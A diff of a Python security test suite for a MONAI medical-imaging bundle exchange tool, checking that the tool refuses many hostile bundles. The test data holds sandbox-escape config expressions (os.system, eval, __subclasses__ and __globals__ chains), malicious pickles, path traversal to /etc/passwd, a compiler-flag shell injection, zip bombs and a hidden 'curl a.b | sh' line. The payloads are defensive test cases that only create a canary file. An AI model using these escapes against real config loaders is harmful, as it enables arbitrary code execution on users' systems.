@@ -5,6 +5,7 @@ Each attack makes the file `canary` in the working directory, if it runs. Under 
 
 from __future__ import annotations
 
+import hashlib
 import io
 import json
 import pickle
@@ -26,10 +27,16 @@ from tofgan_monai.exchange.archive import Content, write
 from tofgan_monai.exchange.data_card import as_text, card
 from tofgan_monai.exchange.verifying import verify
 from tofgan_monai.gan.networks import Critic, Generator
+from tofgan_monai.training.weights import to_safetensors
 
 BUNDLE = "tof_mra_wgan_gp_sn"
 INFER, TRAIN, PAPER = "configs/inference.yaml", "configs/train.yaml", "configs/paper.yaml"
-META, LOG, MODEL, CARD = "configs/metadata.json", "configs/logging.conf", "models/model.pt", "docs/data_card.json"
+META, LOG, MODEL, CARD = (
+    "configs/metadata.json",
+    "configs/logging.conf",
+    "models/model.safetensors",
+    "docs/data_card.json",
+)
 PWN = "__import__('os').system('touch canary')"
 
 
@@ -78,8 +85,8 @@ def expression(value: str, told: str, *, runs: bool = True) -> Attack:
     return Attack(INFER, started(value), told, runs)
 
 
-def component(told: str, *, runs: bool = False, **config: object) -> Attack:
-    return Attack(INFER, started(config), told, runs)
+def component(target: object, told: str, *, runs: bool = False, **config: object) -> Attack:
+    return Attack(INFER, started({"_target_": target, **config}), told, runs)
 
 
 def imported(statement: str, told: str, *, runs: bool = False) -> Attack:
@@ -90,133 +97,112 @@ def meta(key: str, value: object, told: str) -> Attack:
     return Attack(META, lambda data: json.dumps({**json.loads(data), key: value}, indent=4).encode(), told)
 
 
-EXPRESSIONS = {
-    "import of os": expression(f"${PWN}", "builtins.__import__ is not on the list: could run any code"),
-    "eval": expression("$eval(\"open('canary', 'w')\")", "builtins.eval is not on the list"),
-    "exec": expression("$exec(\"open('canary', 'w')\")", "builtins.exec is not on the list"),
-    "open": expression("$open('canary', 'w')", "could read or write any file"),
-    "getattr chain": expression("$getattr(getattr(torch, 'os'), 'system')('touch canary')", "could call any function"),
-    "os within torch": expression("$torch.os.system('touch canary')", "torch.os.system is not on the list"),
-    "os within monai": expression("$monai.bundle.scripts.os.system('touch canary')", "could fetch and run"),
-    "optional_import": expression(
-        "$monai.utils.optional_import('os')[0].system('touch canary')", "could import or build code"
-    ),
-    "run_cmd": expression("$monai.utils.misc.run_cmd(['touch', 'canary'])", "run any command"),
-    "subclasses": expression(
+# `$` expressions by what they do under plain MONAI: some run there, others do harm without the canary or do not run.
+RUNNING = {
+    "import of os": (f"${PWN}", "builtins.__import__ is not on the list: could run any code"),
+    "eval": ("$eval(\"open('canary', 'w')\")", "builtins.eval is not on the list"),
+    "exec": ("$exec(\"open('canary', 'w')\")", "builtins.exec is not on the list"),
+    "open": ("$open('canary', 'w')", "could read or write any file"),
+    "getattr chain": ("$getattr(getattr(torch, 'os'), 'system')('touch canary')", "could call any function"),
+    "os within torch": ("$torch.os.system('touch canary')", "torch.os.system is not on the list"),
+    "os within monai": ("$monai.bundle.scripts.os.system('touch canary')", "could fetch and run"),
+    "optional_import": ("$monai.utils.optional_import('os')[0].system('touch canary')", "could import or build code"),
+    "run_cmd": ("$monai.utils.misc.run_cmd(['touch', 'canary'])", "run any command"),
+    "subclasses": (
         "$[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['touch', 'canary']).wait()",
         "could call any function",
     ),
-    "class of a reference": expression(
-        "$@bundle.__class__.__base__.__subclasses__()", "the method .__subclasses__", runs=False
+    "globals of a method": (
+        "$@latents.__init__.__globals__['__builtins__']['open']('canary', 'w')",
+        "could call any function",
     ),
-    "globals of a method": expression(
-        "$@latents.__init__.__globals__['__builtins__']['open']('canary', 'w')", "could call any function"
-    ),
-    "lambda": expression(f"$(lambda: {PWN})()", "could call any function"),
-    "default of a lambda": expression("$(lambda file=open('canary', 'w'): file)", "Lambda in"),
-    "f-string": expression("$f\"{open('canary', 'w')}\"", "JoinedStr"),
-    "comprehension": expression("$[open(name, 'w') for name in ['canary']]", "ListComp"),
-    "scope of a comprehension": expression(
-        "$[torch for torch in [__import__('os')]][0].system('touch canary')", "ListComp"
-    ),
-    "generator": expression("$any(open(name, 'w') for name in ['canary'])", "GeneratorExp"),
-    "walrus": expression("$(torch := open)('canary', 'w')", "could call any function"),
-    "stars": expression("$torch.device(*[open('canary', 'w')])", "* or ** in a call"),
-    "two stars": expression("$torch.device(**{'type': open('canary', 'w')})", "* or ** in a call"),
-    "dictionary of two stars": expression("${**{'a': open('canary', 'w')}}", "** in a dictionary"),
-    "code in an index": expression("$[0][open('canary', 'w').write('')]", "no plain number or name"),
-    "code in a condition": expression("$0 if open('canary', 'w') else 1", "builtins.open"),
-    "code in an allowed call": expression("$torch.device('cpu', open('canary', 'w'))", "builtins.open"),
-    "argument beyond the list": expression(
+    "lambda": (f"$(lambda: {PWN})()", "could call any function"),
+    "default of a lambda": ("$(lambda file=open('canary', 'w'): file)", "Lambda in"),
+    "f-string": ("$f\"{open('canary', 'w')}\"", "JoinedStr"),
+    "comprehension": ("$[open(name, 'w') for name in ['canary']]", "ListComp"),
+    "scope of a comprehension": ("$[torch for torch in [__import__('os')]][0].system('touch canary')", "ListComp"),
+    "generator": ("$any(open(name, 'w') for name in ['canary'])", "GeneratorExp"),
+    "walrus": ("$(torch := open)('canary', 'w')", "could call any function"),
+    "stars": ("$torch.device(*[open('canary', 'w')])", "* or ** in a call"),
+    "two stars": ("$torch.device(**{'type': open('canary', 'w')})", "* or ** in a call"),
+    "dictionary of two stars": ("${**{'a': open('canary', 'w')}}", "** in a dictionary"),
+    "code in an index": ("$[0][open('canary', 'w').write('')]", "no plain number or name"),
+    "code in a condition": ("$0 if open('canary', 'w') else 1", "builtins.open"),
+    "code in an allowed call": ("$torch.device('cpu', open('canary', 'w'))", "builtins.open"),
+    "function of a method call": ("$[open][0]('canary', 'w')", "could call any function"),
+    "look-alike letters": ("$\uff45\uff56\uff41\uff4c(\"open('canary', 'w')\")", "letters beyond ASCII"),
+}
+STILL = {
+    "class of a reference": ("$@bundle.__class__.__base__.__subclasses__()", "the method .__subclasses__"),
+    "argument beyond the list": (
         "$torch.distributed.init_process_group('gloo', init_method='tcp://10.0.0.1:1')",
         "takes backend here",
-        runs=False,
     ),
-    "function of a method call": expression("$[open][0]('canary', 'w')", "could call any function"),
-    "format": expression(
-        "$'{0.__class__.__init__.__globals__}'.format(@latents)", ".format is not on the list", runs=False
-    ),
-    "look-alike letters": expression("$\uff45\uff56\uff41\uff4c(\"open('canary', 'w')\")", "letters beyond ASCII"),
-    "module by reference": expression("$@imports#0.os.system('touch canary')", "@imports::0, a module", runs=False),
-    "module by plain reference": expression("@imports#0", "could reach anything", runs=False),
-    "MONAI's own variable": expression(
-        "$__local_refs['imports::0'].os.system('touch canary')", "read it differently", runs=False
-    ),
-    "reference within quotes": expression("$'@n' + '@n'", "read it differently", runs=False),
-    "relative reference": expression("$@##imports", "a relative id", runs=False),
-    "torch.load": expression(
-        "$torch.load('models/model.pt', weights_only=False)", "unpickle, so run any code", runs=False
-    ),
-    "torch.hub": expression("$torch.hub.load('stranger/code', 'network')", "fetch and run what it likes", runs=False),
-    "C++ extension": expression("$torch.utils.cpp_extension.load('a', ['a.cpp'])", "import or build code", runs=False),
-    "power": expression("$9 ** 9 ** 9 ** 9", "Pow in", runs=False),
-    "shift": expression("$1 << 1099511627776", "LShift in", runs=False),
-    "repeated list": expression("$[0] * 1000000000000", "neither of numbers nor a path", runs=False),
-    "repeated text by reference": expression("$@bundle * @n * 1000000000", "neither of numbers nor a path", runs=False),
-    "padded text": expression("$'%1000000000d' % 1", "neither of numbers nor a path", runs=False),
-    "text in pieces": expression("$'.' + './.' + './a.nii.gz'", "neither of numbers nor a path", runs=False),
-    "text of a call": expression("$start_from('a', None) + 'b'", "neither of numbers nor a path", runs=False),
-    "rounded to a huge number": expression("$round(5, -1000000000000)", "round takes number here", runs=False),
-    "number beyond all bounds": expression(
-        f"${' * '.join(['int(1.0e300)'] * 5)}", "whose size has no bound", runs=False
-    ),
-    "state by plain data": expression(
-        "$@latents.load_state_dict({'network': ''})", "the method .load_state_dict", runs=False
-    ),
-    "function that is handed on": component("is not on the list", _target_="Compose", transforms="$torch.device"),
-    "call of an attribute": expression("$@latents.network('a')", "the method .network", runs=False),
-    "argument of a method": expression("$@evaluator.run('a')", "run takes nothing here", runs=False),
-    "long expression": expression("$" + "-" * 5000 + "1", "too long", runs=False),
+    "format": ("$'{0.__class__.__init__.__globals__}'.format(@latents)", ".format is not on the list"),
+    "module by reference": ("$@imports#0.os.system('touch canary')", "@imports::0, a module"),
+    "module by plain reference": ("@imports#0", "could reach anything"),
+    "MONAI's own variable": ("$__local_refs['imports::0'].os.system('touch canary')", "read it differently"),
+    "reference within quotes": ("$'@n' + '@n'", "read it differently"),
+    "relative reference": ("$@##imports", "a relative id"),
+    "torch.load": ("$torch.load('models/model.pt', weights_only=False)", "unpickle, so run any code"),
+    "torch.hub": ("$torch.hub.load('stranger/code', 'network')", "fetch and run what it likes"),
+    "C++ extension": ("$torch.utils.cpp_extension.load('a', ['a.cpp'])", "import or build code"),
+    "power": ("$9 ** 9 ** 9 ** 9", "Pow in"),
+    "shift": ("$1 << 1099511627776", "LShift in"),
+    "repeated list": ("$[0] * 1000000000000", "neither of numbers nor a path"),
+    "repeated text by reference": ("$@bundle * @n * 1000000000", "neither of numbers nor a path"),
+    "padded text": ("$'%1000000000d' % 1", "neither of numbers nor a path"),
+    "text in pieces": ("$'.' + './.' + './a.nii.gz'", "neither of numbers nor a path"),
+    "text of a call": ("$start_from('a', None) + 'b'", "neither of numbers nor a path"),
+    "rounded to a huge number": ("$round(5, -1000000000000)", "round takes number here"),
+    "number beyond all bounds": (f"${' * '.join(['int(1.0e300)'] * 5)}", "whose size has no bound"),
+    "state by plain data": ("$@latents.load_state_dict({'network': ''})", "the method .load_state_dict"),
+    "call of an attribute": ("$@latents.network('a')", "the method .network"),
+    "argument of a method": ("$@evaluator.run('a')", "run takes nothing here"),
+    "long expression": ("$" + "-" * 5000 + "1", "too long"),
+}
+EXPRESSIONS = {
+    **{name: expression(*one) for name, one in RUNNING.items()},
+    **{name: expression(*one, runs=False) for name, one in STILL.items()},
+    "function that is handed on": component("Compose", "is not on the list", transforms="$torch.device"),
 }
 DOUBLING = "".join(f'd{i}: "$@d{i - 1} + @d{i - 1}"\n' for i in range(1, 40))
 
 TARGETS = {
-    "os.system": component("could run any command", runs=True, _target_="os.system", command="touch canary"),
-    "subprocess": component("subprocess.run is not on", runs=True, _target_="subprocess.run", args=["touch", "canary"]),
-    "open as a target": component("builtins.open", runs=True, _target_="builtins.open", file="canary", mode="w"),
-    "target by expression": component("no name|not on", runs=True, _target_="$open", file="canary", mode="w"),
-    "target by reference": component("the target @x", _target_="@x"),
-    "target that is a mapping": component("no name", _target_={"_target_": "os.getcwd"}),
-    "look-alike target": component("is not on the list", _target_="monai.transforms.Comp\u043ese"),
-    "trusted package": component(
-        "is not on the list", _target_="torch.hub.load", repo_or_dir="stranger/code", model="a"
-    ),
-    "torch.load as a target": component("weights_only", _target_="torch.load", f="models/model.pt", weights_only=False),
-    "C++ as a target": component(
-        "import or build", _target_="torch.utils.cpp_extension.load", name="a", sources=["a.cpp"]
-    ),
-    "download": component("fetch and run", _target_="monai.apps.download_and_extract", url="http://10.0.0.1/a.zip"),
-    "short name of a download": component("download_url is not on", _target_="download_url", url="http://10.0.0.1/a"),
-    "another bundle": component("fetch and run", _target_="monai.bundle.run", config_file="configs/other.yaml"),
-    "Lambdad": component("call any function", _target_="Lambdad", keys="image", func="@latents"),
-    "function by its name": component(
-        "TorchVisiond is not on", _target_="TorchVisiond", keys="image", name="ColorJitter"
-    ),
-    "pickles on the disk": component("is not on", _target_="PersistentDataset", data=[], transform=None, cache_dir="x"),
-    "code in _requires_": component(
-        "builtins.open", runs=True, _target_="torch.nn.Identity", _requires_="$open('canary', 'w')"
-    ),
+    "os.system": component("os.system", "could run any command", runs=True, command="touch canary"),
+    "subprocess": component("subprocess.run", "subprocess.run is not on", runs=True, args=["touch", "canary"]),
+    "open as a target": component("builtins.open", "builtins.open", runs=True, file="canary", mode="w"),
+    "target by expression": component("$open", "no name|not on", runs=True, file="canary", mode="w"),
+    "target by reference": component("@x", "the target @x"),
+    "target that is a mapping": component({"_target_": "os.getcwd"}, "no name"),
+    "look-alike target": component("monai.transforms.Comp\u043ese", "is not on the list"),
+    "trusted package": component("torch.hub.load", "is not on the list", repo_or_dir="stranger/code", model="a"),
+    "torch.load as a target": component("torch.load", "weights_only", f="models/model.pt", weights_only=False),
+    "C++ as a target": component("torch.utils.cpp_extension.load", "import or build", name="a", sources=["a.cpp"]),
+    "download": component("monai.apps.download_and_extract", "fetch and run", url="http://10.0.0.1/a.zip"),
+    "short name of a download": component("download_url", "download_url is not on", url="http://10.0.0.1/a"),
+    "another bundle": component("monai.bundle.run", "fetch and run", config_file="configs/other.yaml"),
+    "Lambdad": component("Lambdad", "call any function", keys="image", func="@latents"),
+    "function by its name": component("TorchVisiond", "TorchVisiond is not on", keys="image", name="ColorJitter"),
+    "pickles on the disk": component("PersistentDataset", "is not on", data=[], transform=None, cache_dir="x"),
+    "code in _requires_": component("torch.nn.Identity", "builtins.open", runs=True, _requires_="$open('canary', 'w')"),
     "code in _disabled_": component(
-        "builtins.open", runs=True, _target_="torch.nn.Identity", _disabled_="$open('canary', 'w') and True"
+        "torch.nn.Identity", "builtins.open", runs=True, _disabled_="$open('canary', 'w') and True"
     ),
-    "code in an argument": component(
-        "builtins.open", runs=True, _target_="torch.nn.Identity", a="$open('canary', 'w')"
-    ),
-    "mode callable": component("the mode", _target_="monai.engines.Trainer", _mode_="callable"),
-    "mode debug": component("the mode", _target_="torch.nn.Identity", _mode_="debug"),
-    "debugger": component("'_debug_', which is MONAI's own", _target_="torch.nn.Identity", _debug_=True),
-    "reader by name": component("import any class", _target_="LoadImaged", keys="image", reader="subprocess.Popen"),
-    "reader that unpickles": component("import any class", _target_="LoadImaged", keys="image", reader="NumpyReader"),
-    "writer by name": component("import any class", _target_="SaveImaged", keys="pred", writer="os.system"),
-    "pickles allowed": component("the argument allow_pickle", _target_="LoadImaged", keys="image", allow_pickle=True),
+    "code in an argument": component("torch.nn.Identity", "builtins.open", runs=True, a="$open('canary', 'w')"),
+    "mode callable": component("monai.engines.Trainer", "the mode", _mode_="callable"),
+    "mode debug": component("torch.nn.Identity", "the mode", _mode_="debug"),
+    "debugger": component("torch.nn.Identity", "'_debug_', which MONAI reserves", _debug_=True),
+    "reader by name": component("LoadImaged", "import any class", keys="image", reader="subprocess.Popen"),
+    "reader that unpickles": component("LoadImaged", "import any class", keys="image", reader="NumpyReader"),
+    "writer by name": component("SaveImaged", "import any class", keys="pred", writer="os.system"),
+    "pickles allowed": component("LoadImaged", "the argument allow_pickle", keys="image", allow_pickle=True),
     "compiler's options": component(
+        "SupervisedEvaluator",
         "the argument compile_kwargs",
-        _target_="SupervisedEvaluator",
         compile_kwargs={"options": {"cpp.march": "native -wrapper 'sh,-c,touch canary'"}},
     ),
-    "format string": component(
-        "the argument bar_format", _target_="ignite.handlers.ProgressBar", bar_format="{0.__class__}"
-    ),
+    "format string": component("ignite.handlers.ProgressBar", "the argument bar_format", bar_format="{0.__class__}"),
 }
 
 IMPORTS = {
@@ -234,7 +220,7 @@ IMPORTS = {
 }
 
 PATHS = {
-    "absolute": component("output_dir '/etc'", _target_="SaveImaged", keys="pred", output_dir="/etc"),
+    "absolute": component("SaveImaged", "output_dir '/etc'", keys="pred", output_dir="/etc"),
     "climbing": Attack(INFER, replaced("+ '/output'", "+ '/../../output'"), "output_dir"),
     "home": Attack(INFER, replaced("\"$@bundle_root + '/models/model.pt'\"", "~/model.pt"), "weights '~/model.pt'"),
     "URL": Attack(INFER, replaced("\"$@bundle_root + '/models/model.pt'\"", "https://a.b/c.pt"), "weights 'https:"),
@@ -248,28 +234,18 @@ PATHS = {
     "root of the bundle": Attack(PAPER, added("bundle_root: /\n"), "bundle_root '/'"),
     "by an overlay": Attack(PAPER, added("train#dataset#cache: /etc/x.npy\n"), "cache '/etc/x.npy'"),
     "added to a list": Attack(PAPER, added("+pairs: [/etc/x.npy]\n"), "pairs ['/etc/x.npy']"),
-    "image of another": component("leads out of the bundle", _target_="Dataset", data=[{"image": "/home/a.nii.gz"}]),
-    "joined image of another": component(
-        "leads out of the bundle", _target_="Dataset", data=["$@bundle + '/../../a.nii'"]
-    ),
-    "prefix of a file": component("no plain file name", _target_="CheckpointSaver", save_dict={}, file_prefix="../a"),
-    "name of the metric": component(
-        "no plain file name", _target_="CheckpointSaver", save_dict={}, key_metric_name="../a"
-    ),
-    "key of a mapping that is saved": component("save_dict", _target_="CheckpointSaver", save_dict={"/tmp/canary": 1}),
-    "mapping that is saved by reference": component("save_dict", _target_="CheckpointSaver", save_dict="@network"),
-    "key that climbs": component("leads out of the bundle", _target_="Dataset", data=[{"../../canary": 1}]),
+    "image of another": component("Dataset", "leads out of the bundle", data=[{"image": "/home/a.nii.gz"}]),
+    "joined image of another": component("Dataset", "leads out of the bundle", data=["$@bundle + '/../../a.nii'"]),
+    "prefix of a file": component("CheckpointSaver", "no plain file name", save_dict={}, file_prefix="../a"),
+    "name of the metric": component("CheckpointSaver", "no plain file name", save_dict={}, key_metric_name="../a"),
+    "key of a mapping that is saved": component("CheckpointSaver", "save_dict", save_dict={"/tmp/canary": 1}),
+    "mapping that is saved by reference": component("CheckpointSaver", "save_dict", save_dict="@network"),
+    "key that climbs": component("Dataset", "leads out of the bundle", data=[{"../../canary": 1}]),
     "root of the data": component(
-        "the argument data_root_dir",
-        _target_="SaveImaged",
-        keys="pred",
-        data_root_dir="$@bundle_root + '/output/a/b'",
+        "SaveImaged", "the argument data_root_dir", keys="pred", data_root_dir="$@bundle_root + '/output/a/b'"
     ),
     "namer of files": component(
-        "the argument output_name_formatter",
-        _target_="SaveImaged",
-        keys="pred",
-        output_name_formatter={"_target_": "Compose"},
+        "SaveImaged", "the argument output_name_formatter", keys="pred", output_name_formatter={"_target_": "Compose"}
     ),
     "call that returns its argument": Attack(
         INFER, replaced("$@output_dir + '/synthetic.npy'", "$start_from('', None) + '/tmp/canary.npy'"), "output "
@@ -284,33 +260,29 @@ PATHS = {
         INFER, written_to("$@a + '/tmp/c.npy'", a="$@b and @bundle_root", b=""), "output "
     ),
     "call that returns a list": component(
-        "pairs ",
-        _target_="tofgan_monai.PairSource",
-        pairs="$monai.data.list_data_collate(['canary.npy'])",
+        "tofgan_monai.PairSource", "pairs ", pairs="$monai.data.list_data_collate(['canary.npy'])"
     ),
     "object that returns texts": component(
-        "output_dir ", _target_="SaveImaged", keys="pred", output_dir={"_target_": "Dataset", "data": ["/tmp"]}
+        "SaveImaged", "output_dir ", keys="pred", output_dir={"_target_": "Dataset", "data": ["/tmp"]}
     ),
     "object by an overlay": Attack(
-        PAPER,
-        added('a: {_target_: Dataset, data: []}\na#_target_: Compose\ntrain#dataset#pairs: "@a"\n'),
-        "pairs '@a'",
+        PAPER, added('a: {_target_: Dataset, data: []}\na#_target_: Compose\ntrain#dataset#pairs: "@a"\n'), "pairs '@a'"
     ),
     "object by an overlay of the path": Attack(PAPER, added("train#dataset#pairs#_target_: Compose\n"), "pairs "),
-    "own weights": component(
-        "save_dir ", _target_="CheckpointSaver", save_dict={}, save_dir="$@bundle_root + '/models'"
-    ),
+    "own weights": component("CheckpointSaver", "save_dir ", save_dict={}, save_dir="$@bundle_root + '/models'"),
     "own card": Attack(INFER, replaced("$@output_dir + '/syn", "$@bundle_root + '/docs/syn"), "output "),
     "own weights by reference": Attack(INFER, written_to("$@a + '/a.npy'", a="$@bundle_root + '/Models'"), "output "),
     "own root": Attack(INFER, replaced("$@bundle_root + '/output'", "@bundle_root"), "output_dir '@bundle_root'"),
     "within a call": expression("$tofgan_monai.sha256('/etc/passwd')", "path '/etc/passwd'", runs=False),
     "of an imported call": Attack(
-        TRAIN, replaced("$@pretrained and sha256(@pretrained)", "$sha256('/etc/passwd')"), "path '/etc"
+        TRAIN,
+        replaced("$@pretrained and weights_file_digest(@pretrained)", "$weights_file_digest('/etc/passwd')"),
+        "path '/etc",
     ),
 }
 
 FILES = {
-    "macro": Attack(INFER, started("%configs/other.yaml::run"), "takes in whatever file it names"),
+    "macro": Attack(INFER, started("%configs/other.yaml::run"), "brings in any file that it names"),
     "macro of this machine": Attack(INFER, started("%/etc/x.json"), "the macro"),
     "target in an overlay": Attack(PAPER, added("objective#_target_: os.system\n"), "the target os.system"),
     "added handler": Attack(PAPER, added("+handlers: [{_target_: os.system, command: a}]\n"), "the target os.system"),
@@ -357,18 +329,20 @@ FILES = {
     "YAML anchors": Attack(PAPER, added("a: &a [x, x]\nb: [*a, *a]\n"), "a YAML anchor or alias"),
     "YAML merge key": Attack(PAPER, added("a:\n  <<: {_target_: os.system}\n"), "no string"),
     "YAML key twice": Attack(INFER, added("n: 5\n"), "a second 'n'"),
-    "YAML number for a key": Attack(PAPER, added("other: {1: 2}\n"), "the key '1', no string"),
+    "YAML number for a key": Attack(PAPER, added("other: {1: 2}\n"), "the key '1', which is no string"),
     "YAML second document": Attack(PAPER, added("---\nwidth: 3\n"), "a second document"),
     "YAML nesting": Attack(PAPER, added(f"other: {'[' * 5000}{']' * 5000}\n"), "nested deeper"),
     "YAML date": Attack(PAPER, added("other: 2024-01-01\n"), "no plain value"),
     "line hidden in a comment": Attack(PAPER, added("# \u0085width: 3\n"), "not ASCII"),
     "look-alike key": Attack(PAPER, added("w\u0456dth: 3\n"), "not ASCII"),
-    "too large": Attack(PAPER, added("# " + "x" * 2**17), "bytes where"),
+    "too large": Attack(PAPER, added("# " + "x" * 2**17), "bytes, where"),
     "terminal's escapes": Attack("docs/README.md", added("\x1b[2Jclean\n"), "could rewrite what a terminal shows"),
     "line over another": Attack("docs/README.md", added("curl a.b | sh\rtofgan list   \n"), "what a terminal shows"),
     "card of other weights": Attack(CARD, lambda data: data.replace(b'"sha256": "', b'"sha256": "0'), "is of weights"),
-    "card of another kind": Attack(CARD, replaced('"simulated"', '"anonymous"'), "kinds are simulated", at='"seen"'),
-    "card without audit": Attack(CARD, replaced('"audit": null', '"checked": true'), "no audit", at="models/model.pt"),
+    "card of another kind": Attack(CARD, replaced('"simulated"', '"anonymous"'), "kinds are simulated"),
+    "card without audit": Attack(
+        CARD, replaced('"audit": null', '"checked": true'), "'audit' is a required", at="models/model.pt"
+    ),
     "network without end": Attack(INFER, replaced("width: 2 ", "width: 100000 "), "the argument 100000"),
     "network of a wide layer": Attack(
         INFER, replaced("width: 2 ", "width: 20000 "), "more than 268435456 parameters", at="network_def:"
@@ -378,6 +352,7 @@ FILES = {
         replaced('tofgan_monai.Generator\n  latent_dim: "@latent_dim"\n', "tofgan_monai.Critic\n"),
         "a critic has seen patients",
     ),
+    "pickle beside the weights": Attack("models/model.pt", new(pickle.dumps("os")), "a pickle in place of"),
     "network by expression": Attack(INFER, replaced('width: "@width"', 'width: "$@evaluator.run()"'), "plain values"),
 }
 FILES["network of many layers"] = Attack(
@@ -414,41 +389,36 @@ def scripted() -> bytes:
     return buffer.getvalue()
 
 
-def with_record(data: bytes, name: str, mode: int = zipfile.ZIP_STORED) -> bytes:
-    buffer = io.BytesIO(data)
-    with zipfile.ZipFile(buffer, "a") as archive:
-        archive.writestr(zipfile.ZipInfo(f"archive/{name}"), b"0" * 1000, mode)
-    return buffer.getvalue()
+def plain(**more: torch.Tensor) -> bytes:
+    return to_safetensors({**Generator(width=2).state_dict(), **more})
 
 
-def nan_weights() -> dict:
-    weights = Generator(width=2).state_dict()
-    weights["0.weight"] = weights["0.weight"] * float("nan")
-    return weights
+def zipped(data: bytes, mode: int) -> bytes:
+    """A file with a zip file behind it; readers of zip files find that one."""
+    return appended((zipfile.ZipInfo("archive/code/a.py"), b"0" * 1000), mode=mode)(data)
 
 
+NO_TENSORS = "no whole safetensors file|a header of"
 WEIGHTS: dict[str, tuple[Callable[[], bytes], str]] = {
-    "pickle in a zip": (lambda: saved({"a": Runs()}), "a pickle that calls posix system|nt system"),
-    "bare pickle": (lambda: pickle.dumps(Runs()), "could be a pickle of any code"),
-    "TorchScript": (scripted, "TorchScript"),
-    "pickled network": (lambda: saved(nn.Linear(1, 1)), "torch.nn.modules.linear Linear"),
-    "checkpoint": (
-        lambda: saved({"epoch": 1, "state": {"critic": Critic(2).state_dict()}, "recipe": {}}),
-        "an optimiser's state, a critic",
+    "pickle in a zip": (lambda: saved({"a": Runs()}), NO_TENSORS),
+    "bare pickle": (lambda: pickle.dumps(Runs()), NO_TENSORS),
+    "TorchScript": (scripted, NO_TENSORS),
+    "pickled network": (lambda: saved(nn.Linear(1, 1)), NO_TENSORS),
+    "checkpoint": (lambda: saved({"epoch": 1, "state": {"critic": Critic(2).state_dict()}, "recipe": {}}), NO_TENSORS),
+    "state dict of torch": (lambda: saved(Generator(width=2).state_dict()), NO_TENSORS),
+    "critic's weights": (lambda: to_safetensors(Critic(2).state_dict()), "does not fit network_def"),
+    "another width": (lambda: to_safetensors(Generator(width=3).state_dict()), "does not fit network_def"),
+    "an extra tensor": (lambda: plain(patients=torch.zeros(9)), "patients is missing or one too many"),
+    "not finite": (
+        lambda: plain(**{"0.weight": Generator(width=2)[0].weight.detach() * float("nan")}),
+        "is not finite",
     ),
-    "critic's weights": (lambda: saved(Critic(2).state_dict()), "does not fit network_def"),
-    "another width": (lambda: saved(Generator(width=3).state_dict()), "does not fit network_def"),
-    "an extra tensor": (
-        lambda: saved({**Generator(width=2).state_dict(), "patients": torch.zeros(9)}),
-        "patients is missing or one too many",
-    ),
-    "not finite": (lambda: saved(nan_weights()), "is not finite"),
-    "truncated": (lambda: saved(Generator(width=2).state_dict())[:-900], "no zip file"),
-    "code beside the tensors": (lambda: with_record(saved({}), "code/a.py"), "TorchScript"),
-    "compressed": (lambda: with_record(saved({}), "data/99", zipfile.ZIP_DEFLATED), "more than the memory holds"),
+    "truncated": (lambda: plain()[:-900], "bytes of values, where the tensors have"),
+    "code beside the tensors": (lambda: zipped(plain(), zipfile.ZIP_STORED), "bytes of values, where the tensors have"),
+    "compressed": (lambda: zlib.compress(plain()), NO_TENSORS),
     "a tensor without end": (
-        lambda: saved({**Generator(width=2).state_dict(), "0.weight": torch.zeros(1).expand(2**40)}),
-        "does not fit network_def",
+        lambda: plain().replace(b'"shape":[100,', b'"shape":[109951162777600,', 1),
+        "no JSON|gaps, overlaps",
     ),
 }
 
@@ -518,7 +488,7 @@ def test_weights_that_are_no_state_dict_are_refused_unread(name, bundle_files, h
     make, told = WEIGHTS[name]
     files = bundle_files(BUNDLE)
     files[MODEL] = make()
-    files[CARD] = as_text(card(files[MODEL], [{"kind": "real"}], "a test"))
+    files[CARD] = as_text(card(hashlib.sha256(files[MODEL]).hexdigest(), [{"kind": "real"}], "a test"))
     problems = problems_of(archived(here, files))
     assert all(problem.startswith(f"{MODEL}: ") for problem in problems), problems
     assert any(text in problems[0] for text in told.split("|"))
@@ -600,13 +570,17 @@ ARCHIVES: dict[str, tuple[Callable[[bytes], bytes], str]] = {
     "symbolic link": (appended((entry(f"{BUNDLE}/docs/a.md", stat.S_IFLNK | 0o777), b"/etc/passwd")), "a link, device"),
     "device": (appended((entry(f"{BUNDLE}/docs/a.md", stat.S_IFCHR | 0o666), b"")), "a link, device"),
     "folder": (appended((entry(f"{BUNDLE}/docs/", stat.S_IFDIR | 0o755), b"")), "names a folder"),
-    "two of one name": (appended((entry(f"{BUNDLE}/LICENSE"), b"other")), "could take the place of the one"),
-    "two but for the case": (appended((entry(f"{BUNDLE}/license"), b"other")), "could take the place of the one"),
+    "two of one name": (appended((entry(f"{BUNDLE}/LICENSE"), b"other")), "could take the place of the first"),
+    "two but for the case": (appended((entry(f"{BUNDLE}/license"), b"other")), "could take the place of the first"),
     "bomb of 10 GB": (bombed, "unpacks to more than"),
     "compressed file": (appended((entry(f"{BUNDLE}/docs/a.md"), b"a" * 999), mode=zipfile.ZIP_DEFLATED), "compressed"),
     "many files": (appended(*((entry(f"{BUNDLE}/docs/a{i}.md"), b"") for i in range(99))), "files: a bundle has"),
-    "file beyond the manifest": (appended((entry(f"{BUNDLE}/docs/a.md"), b"a")), "docs/a.md is another"),
-    "changed file": (rewritten("LICENSE", b"other"), "LICENSE is another: was changed after packing"),
+    "file beyond the manifest": (appended((entry(f"{BUNDLE}/docs/a.md"), b"a")), "docs/a.md has another SHA-256"),
+    "changed file": (rewritten("LICENSE", b"other"), "LICENSE has another SHA-256: was changed after packing"),
+    "version 0.1.0": (
+        rewritten("manifest.json", b'{"format": 1}'),
+        "ask the sender to pack it by a newer tofgan_monai",
+    ),
     "no manifest": (rewritten("manifest.json", b""), "not readable"),
     "no manifest at all": (rewritten("manifest.json", b"[]"), "not a mapping"),
     "bytes before": (lambda data: b"#!/bin/sh\ntouch canary\nexit\n" + data, "hide something in or between"),
@@ -634,7 +608,9 @@ STRANGERS = {
     "scripts/run.py": "code",
     "sitecustomize.py": "code",
     "models/model.ts": "a compiled network",
+    "models/model.pt": "a pickle in place of models/model.safetensors",
     "models/critic.pt": "other weights",
+    "models/critic.safetensors": "other weights",
     "models/checkpoint.pt": "a checkpoint",
     "output/tensorboard/events.out.tfevents.1.host.1.0": "a TensorBoard log",
     "pairs_training.npy": "a stack of pairs",
